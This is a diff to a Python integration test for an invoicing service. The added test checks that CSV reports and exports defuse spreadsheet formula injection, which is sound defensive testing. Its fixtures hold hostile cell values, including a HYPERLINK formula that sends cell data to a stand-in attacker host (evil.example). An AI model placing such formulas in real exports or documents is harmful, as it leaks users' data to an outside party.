@@ -4,8 +4,12 @@ oversized bodies, forged request ids, formula injection in CSV and the operators
 from __future__ import annotations
 
 import base64
+import csv
+import io
 import re
 import socket
+import subprocess
+import sys
 from collections.abc import Iterator
 from concurrent.futures import ThreadPoolExecutor
 from dataclasses import replace
@@ -19,8 +23,12 @@ import pytest
 
 from engine.application import LedgerService
 from engine.config import Settings
+from engine.relay import Relay
+from projections.invoice_register import InvoiceRegister
+from projections.runner import ProjectionRunner
+from tests.conftest import BackgroundLoop, wait_for
 from tests.integration.helpers import client_for, invoice_body, register_tenant
-from tests.integration.processes import Processes
+from tests.integration.processes import Processes, settings_env
 from tests.integration.test_api_contract import assert_error_shape
 
 pytestmark = pytest.mark.integration
@@ -383,3 +391,51 @@ def test_a_client_request_id_is_echoed_only_when_short_and_plain(
         assert echoed == sent
     else:
         assert echoed != sent and re.fullmatch(r"req_[0-9a-f]{20}", echoed)
+
+
+# -- 4. CSV formula injection ----------------------------------------------------------------------
+
+HOSTILE_NAMES = {"CSV-1": '=HYPERLINK("http://evil.example/?"&A1,"Open")', "CSV-2": "-2+3"}
+
+
+def test_csv_reports_and_exports_neutralise_formulas_in_text_and_keep_numbers(
+    settings: Settings, service: LedgerService, topics: list[str], background: BackgroundLoop, tmp_path: Path
+) -> None:
+    tenant_id, api_key = register_tenant(service)
+    client = client_for(settings)
+    auth = {"Authorization": f"Bearer {api_key}"}
+    for number, name in HOSTILE_NAMES.items():
+        body = invoice_body(number)
+        body["buyer"] = {**body["buyer"], "name": name}
+        body["lines"] = [{**body["lines"][0], "description": "@SUM(A1:A9)"}]
+        assert client.post("/v1/invoices", json=body, headers=auth).status_code == 201, number
+    background.start(Relay(settings).run)
+    background.start(ProjectionRunner(settings, InvoiceRegister()).run)
+    wait_for(
+        lambda: len(client.get("/v1/reports/invoices", headers=auth).json()["items"]) == 2,
+        timeout=120,
+        what="both invoices in the invoices report",
+    )
+
+    answered = client.get("/v1/reports/invoices?format=csv", headers=auth)
+    exported_file = tmp_path / "invoices.csv"
+    export = ["export", "invoices", "--format", "csv", "--out", str(exported_file), "--tenant", tenant_id]
+    done = subprocess.run(
+        [sys.executable, "-m", "engine.cli", *export],
+        env=settings_env(settings),
+        capture_output=True,
+        text=True,
+        timeout=120,
+    )
+    assert done.returncode == 0, done.stderr
+    lines_csv = client.get("/v1/reports/invoice_lines?format=csv", headers=auth).text
+
+    for text in (answered.text, exported_file.read_text(encoding="utf-8")):
+        rows = {r["invoice_number"]: r for r in csv.DictReader(io.StringIO(text))}
+        assert rows["CSV-1"]["buyer_name"] == "'" + HOSTILE_NAMES["CSV-1"]
+        assert rows["CSV-2"]["buyer_name"] == "'-2+3"
+        # Amounts are numbers, written exactly as the JSON report has them.
+        assert (rows["CSV-1"]["taxable"], rows["CSV-1"]["total"]) == ("1000.00", "1180.00")
+    json_rows = client.get("/v1/reports/invoices", headers=auth).json()["items"]
+    assert {r["buyer_name"] for r in json_rows} == set(HOSTILE_NAMES.values())  # JSON is not a spreadsheet
+    assert {r["description"] for r in csv.DictReader(io.StringIO(lines_csv))} == {"'@SUM(A1:A9)"}
